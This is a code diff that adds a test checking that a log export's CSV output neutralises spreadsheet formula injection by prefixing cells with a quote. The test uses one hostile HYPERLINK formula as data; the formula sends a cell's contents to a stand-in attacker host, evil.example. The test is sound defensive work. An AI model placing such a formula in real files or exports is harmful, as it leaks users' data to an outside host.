@@ -98,6 +98,30 @@ describe('BFF log export', () => {
     );
   });
 
+  it('is formula-safe: a cell that would start a spreadsheet formula is prefixed with a quote', async () => {
+    // upstream text is not ours: every message becomes a formula on its way in
+    const sim = smallSimulator();
+    const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+    const bff = makeBff({
+      simulator: sim,
+      handler: {
+        fetch: async (input, init) => {
+          const request = new Request(input, init);
+          const answer = await sim.fetch(request);
+          if (!new URL(request.url).pathname.endsWith('/logs/tool_execution') || answer.status !== 200) return answer;
+          const page = (await answer.json()) as LogListResponse;
+          for (const log of page.logs) log.message = FORMULA;
+          return Response.json(page, { headers: { 'content-type': 'application/json' } });
+        },
+      },
+    });
+    const text = await (await bff.handler(exportRequest({ time_range: WINDOW }))).text();
+    const rows = text.trim().split('\r\n').slice(1);
+    assert.ok(rows.length > 0);
+    for (const row of rows) assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`), row);
+    assert.ok(!/(^|,)[=+@]/m.test(text), 'no cell starts a formula');
+  });
+
   it('stops at the cap with a final notice line', async () => {
     const bff = makeBff({ ...BIG, handler: { ...BIG.handler, limits: { maxExportRows: 250 } } });
     const text = await (await bff.handler(exportRequest({ time_range: WINDOW }))).text();
